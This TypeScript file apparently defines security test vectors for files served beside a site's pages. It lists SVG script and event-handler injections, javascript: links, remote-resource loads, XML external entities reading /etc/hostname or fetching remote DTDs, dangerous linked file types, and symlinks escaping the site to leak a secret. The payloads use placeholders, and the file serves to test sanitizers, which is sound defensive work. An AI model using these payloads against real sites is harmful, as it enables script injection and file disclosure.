/** Files beside pages: drawings, what a page links to, links of the file system. */
import { type Vector, vectors } from './vector.ts'

/** Inside `<svg>`, shown as a picture and linked to; names of namespaces are declared. */
const drawings = vectors(
  'svg',
  String.raw`
script | <script>{run}</script>
script-src | <script href="https://{far}"/><script xlink:href="https://{far}"/>
script-cdata | <script><![CDATA[{run}]]></script>
script-prefix | <s:script xmlns:s="http://www.w3.org/2000/svg">{run}</s:script>
script-html | <script xmlns="http://www.w3.org/1999/xhtml">{run}</script>
script-nested | <g><defs><script type="module">{run}</script></defs></g>
load | <g onload="{run}"/><rect onmouseover="{run}" width="9" height="9"/>
handler-entity | <rect onmouse&#111;ver="{run}" width="9" height="9"/>
handler-focus | <a tabindex="0" onfocus="{run}" onfocusin="{run}"><rect width="9" height="9"/></a>
foreign-object | <foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="{run}"><img src="x" onerror="{run}"/></body></foreignObject>
html | <img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="{run}"/>
iframe | <iframe xmlns="http://www.w3.org/1999/xhtml" src="https://{far}"/>
form | <form xmlns="http://www.w3.org/1999/xhtml" action="https://{far}"><input autofocus="" onfocus="{run}"/></form>
link-style | <link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://{far}.css"/>
meta | <meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://{far}"/>
a-javascript | <a href="javascript:{run}"><text y="9">a</text></a>
a-xlink | <a xlink:href="java&#9;script:{run}"><text y="9">a</text></a>
a-prefix | <a x:href="javascript:{run}"><text y="9">a</text></a>
use-data | <use href="data:image/svg+xml,&lt;svg id='x' onload='{run}'/&gt;#x"/>
use-foreign | <use href="https://{far}#x"/>
image-foreign | <image href="https://{far}.png" width="9" height="9"/><image xlink:href="//{far}.png" width="9" height="9"/>
image-data-svg | <image href="data:image/svg+xml,&lt;svg onload='{run}'/&gt;" width="9" height="9"/>
feimage | <filter id="f"><feImage href="https://{far}.png"/></filter><rect width="9" height="9" filter="url(#f)"/>
fill-foreign | <rect width="9" height="9" fill="url(https://{far}#a)" filter="url(//{far}#f)"/>
style-import | <style>@import "https://{far}.css";</style>
style-url | <style>svg{background:url(https://{far}.png)}</style>
style-escape | <style>svg{background:\75rl(https://{far}.png)}</style>
style-cut | <style>svg{background:u<![CDATA[rl(https://{far}.png)]]>}</style>
style-image-set | <style>svg{background:image-set("https://{far}.png" 1x)}</style>
style-font | <style>@font-face{font-family:a;src:url(https://{far}.woff2)}text{font-family:a}</style><text y="9">a</text>
style-attribute | <rect style="fill:url(https://{far}#a);cursor:url(https://{far}.png),auto" width="9" height="9"/>
animate-href | <a id="a"><animate attributeName="href" values="javascript:{run}"/><text y="9">a</text></a>
animate-prefix | <a><animate attributeName="xlink:href" to="javascript:{run}"/><text y="9">a</text></a>
animate-event | <animate onbegin="{run}" attributeName="x" dur="1s"/>
set-handler | <rect width="9" height="9"><set attributeName="onmouseover" to="{run}"/></rect>
base | <g xml:base="https://{far}/"><image href="a.png" width="9" height="9"/></g>
handler-element | <handler xmlns="http://www.w3.org/2000/svg" type="text/ecmascript" x:event="load">{run}</handler>
audio | <audio xmlns="http://www.w3.org/1999/xhtml" src="https://{far}.mp3" autoplay="" onerror="{run}"/>
`,
)

/** What stands before the drawing; read by parsers of XML. */
const prologs = vectors(
  'svg-prolog',
  String.raw`
stylesheet | <?xml-stylesheet href="https://{far}.css"?>
stylesheet-script | <?xml-stylesheet type="text/xsl" href="data:text/xml,&lt;x onload='{run}'/&gt;"?>
entity | <!DOCTYPE svg [<!ENTITY e "<script>{run}</script>">]>
entity-file | <!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/hostname">]>
entity-foreign | <!DOCTYPE svg SYSTEM "https://{far}.dtd" [<!ENTITY % p SYSTEM "https://{far}"> %p;]>
entity-handler | <!DOCTYPE svg [<!ATTLIST svg onload CDATA "{run}">]>
namespace | <!DOCTYPE svg [<!ENTITY ns "http://www.w3.org/1999/xhtml">]>
`,
)

/** `name⏎content` of a file that a page links to, once from a folder that `downloads` names. */
const linked = vectors(
  'linked',
  String.raw`
html | a.html⏎<script>{run}</script>
html-upper | b.HTM⏎<img src=x onerror={run}>
xhtml | a.xhtml⏎<html xmlns="http://www.w3.org/1999/xhtml"><script>{run}</script></html>
js | a.js⏎{run}
mjs | a.mjs⏎{run}
css | a.css⏎@import "https://{far}.css";
xml | a.xml⏎<?xml-stylesheet type="text/xsl" href="a.xsl"?><x><script xmlns="http://www.w3.org/1999/xhtml">{run}</script></x>
xsl | a.xsl⏎<script xmlns="http://www.w3.org/1999/xhtml">{run}</script>
no-extension | LICENSE⏎<script>{run}</script>
double-extension | a.txt.html⏎<script>{run}</script>
unknown | a.zzz⏎<script>{run}</script>
svgz | a.svgz⏎<svg xmlns="http://www.w3.org/2000/svg"><script>{run}</script></svg>
mht | a.mht⏎<script>{run}</script>
htc | a.htc⏎<script>{run}</script>
swf | a.swf⏎FWS
text | a.txt⏎<script>{run}</script>
csv | a.csv⏎=HYPERLINK("https://{far}"),<script>{run}</script>
json | a.json⏎{"a":"<script>{run}</script>"}
pdf | a.pdf⏎%PDF-1.4 <script>{run}</script>
docfx | docfx.json⏎{"build":{}}
hidden | .env⏎<script>{run}</script>
htaccess | .htaccess⏎AddType text/html .txt
headers | _headers⏎/*
`,
)

/** `name⏎target` of symbolic links; `{outside}` is a folder beside the site with the word that must not get out. */
const symbolic = vectors(
  'symlink',
  String.raw`
text | secret.txt⏎{outside}/secret.txt
picture | secret.svg⏎{outside}/secret.svg
include | secret.md⏎{outside}/secret.md
folder | deep⏎{outside}
system | host.txt⏎/etc/hostname
`,
)

export const besideVectors: readonly Vector[] = [...drawings, ...prologs, ...linked, ...symbolic]

/** The word in files outside the site. */
export const secret = 'word-that-stays-outside'
